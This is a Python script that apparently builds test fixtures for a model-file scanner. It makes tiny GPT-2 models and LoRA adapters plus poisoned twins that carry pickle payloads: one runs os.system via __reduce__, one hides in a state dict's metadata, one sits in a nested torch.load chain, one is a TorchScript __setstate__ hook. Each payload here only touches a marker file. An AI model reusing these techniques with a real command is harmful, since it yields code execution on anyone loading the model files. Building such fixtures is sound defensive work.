"""Makes tiny models with real layers through the libraries' own save_pretrained, and poisoned twins of them.

    python make_models.py FOLDER    base/ base_bin/ adapter/ adapter_bin/, the poisoned base_poisoned/ with its clean
                                    adapter_poisoned/, poisoned.pkl, and hidden.pkl, whose only act is to torch.load
                                    the poisoned other.pt

A payload does nothing but touch its marker file, FOLDER/marker.
"""
import json
import os
import pickle
import shutil
import sys
from pathlib import Path


class Call:
    """Unpickles as function(*arguments), and leaves no trace of this class in the stream. `function` may be a Call."""

    def __init__(self, function, *arguments):
        self.function = function
        self.arguments = arguments

    def __reduce__(self):
        return self.function, self.arguments

    def __call__(self):
        raise TypeError("only the unpickled object can be called; the pickler wants a callable here")


def payload(marker):
    """An object whose unpickling touches `marker`."""
    return Call(os.system, f"touch '{marker}'")


def payload_bytes(marker, protocol=4):
    return pickle.dumps({"weights": [1.0, 2.0], "hook": payload(marker)}, protocol)


def make_tokenizer():
    from tokenizers import Tokenizer, models, pre_tokenizers, trainers
    from transformers import PreTrainedTokenizerFast

    tokenizer = Tokenizer(models.BPE(unk_token="<unk>"))
    tokenizer.pre_tokenizer = pre_tokenizers.Whitespace()
    trainer = trainers.BpeTrainer(vocab_size=120, special_tokens=["<unk>", "<s>", "</s>"], show_progress=False)
    tokenizer.train_from_iterator(["the guard reads every model before the program does"] * 4, trainer)
    return PreTrainedTokenizerFast(tokenizer_object=tokenizer, unk_token="<unk>", bos_token="<s>", eos_token="</s>",
                                   pad_token="</s>")


def make_base(folder, form="safetensors"):
    """A two-layer GPT-2 with its tokenizer; `form` is "safetensors" or "bin" (a pickled pytorch_model.bin)."""
    import torch
    from transformers import GPT2Config, GPT2LMHeadModel

    folder = Path(folder)
    torch.manual_seed(0)
    tokenizer = make_tokenizer()
    config = GPT2Config(vocab_size=len(tokenizer), n_positions=64, n_embd=32, n_layer=2, n_head=2,
                        bos_token_id=tokenizer.bos_token_id, eos_token_id=tokenizer.eos_token_id,
                        pad_token_id=tokenizer.pad_token_id)
    model = GPT2LMHeadModel(config)
    model.save_pretrained(folder)
    tokenizer.save_pretrained(folder)
    if form == "bin":
        # Recent transformers writes safetensors only; the folders of older ones look like this.
        torch.save(model.state_dict(), folder / "pytorch_model.bin")
        (folder / "model.safetensors").unlink()
    return folder


def make_adapter(folder, base):
    """A LoRA adapter that names `base` as its base model."""
    from peft import LoraConfig, get_peft_model
    from transformers import AutoModelForCausalLM, AutoTokenizer

    model = AutoModelForCausalLM.from_pretrained(base)
    config = LoraConfig(task_type="CAUSAL_LM", r=2, target_modules=["c_attn"], fan_in_fan_out=True,
                        base_model_name_or_path=str(base))
    get_peft_model(model, config).save_pretrained(folder)
    AutoTokenizer.from_pretrained(base).save_pretrained(folder)
    return Path(folder)


def poison_checkpoint(source, target, marker):
    """Writes `source`, a state dict, to `target` with a payload where nobody looks: the model still works after it."""
    import torch

    state = torch.load(source, weights_only=True)
    if not hasattr(state, "_metadata"):
        raise ValueError(f"{source} is not a module's state dict")
    state._metadata["hook"] = payload(marker)
    torch.save(state, target)


def poison_base(source, folder, marker):
    """A twin of the base model `source` (form "bin") whose weights carry a payload.

    Its config.json names no dtype: transformers then looks into the weights for it, with the caller's weights_only.
    """
    source, folder = Path(source), Path(folder)
    shutil.copytree(source, folder)
    poison_checkpoint(source / "pytorch_model.bin", folder / "pytorch_model.bin", marker)
    config = json.loads((source / "config.json").read_text())
    del config["dtype"]
    (folder / "config.json").write_text(json.dumps(config, indent=2))
    return folder


def point_adapter(source, folder, base):
    """A copy of the adapter `source` that names another base model."""
    shutil.copytree(source, folder)
    path = Path(folder) / "adapter_config.json"
    config = json.loads(path.read_text())
    config["base_model_name_or_path"] = str(base)
    path.write_text(json.dumps(config, indent=2))
    return Path(folder)


def make_hidden_dependency(path, other, marker):
    """A pickle at `path` whose only act is torch.load(other), and `other` with a payload."""
    import torch

    torch.save({"weights": torch.ones(4), "hook": payload(marker)}, other)
    Path(path).write_bytes(pickle.dumps(Call(torch.load, str(other))))


def make_script_module(path, marker=None):
    """A TorchScript archive. With `marker`, its __setstate__, which torch.jit.load runs, creates that file."""
    import torch

    class Clean(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.linear = torch.nn.Linear(4, 2)

        def forward(self, x):
            return self.linear(x)

    class Poisoned(torch.nn.Module):
        def __init__(self, marker: str):
            super().__init__()
            self.marker = marker
            self.size = 0

        def forward(self, x):
            return x

        @torch.jit.export
        def __getstate__(self):
            return self.marker, self.training

        @torch.jit.export
        def __setstate__(self, state: tuple[str, bool]):
            self.marker = state[0]
            self.training = state[1]
            self.size = torch.from_file(self.marker, True, 4).numel()

    torch.jit.save(torch.jit.script(Poisoned(str(marker)) if marker else Clean()), str(path))


def main():
    folder = Path(sys.argv[1]).resolve()
    folder.mkdir(parents=True, exist_ok=True)
    make_adapter(folder / "adapter", make_base(folder / "base"))
    make_adapter(folder / "adapter_bin", make_base(folder / "base_bin", "bin"))
    poison_base(folder / "base_bin", folder / "base_poisoned", folder / "marker")
    point_adapter(folder / "adapter_bin", folder / "adapter_poisoned", folder / "base_poisoned")
    make_hidden_dependency(folder / "hidden.pkl", folder / "other.pt", folder / "marker")
    (folder / "poisoned.pkl").write_bytes(payload_bytes(folder / "marker"))


if __name__ == "__main__":
    os.environ["HF_HUB_OFFLINE"] = "1"
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    main()
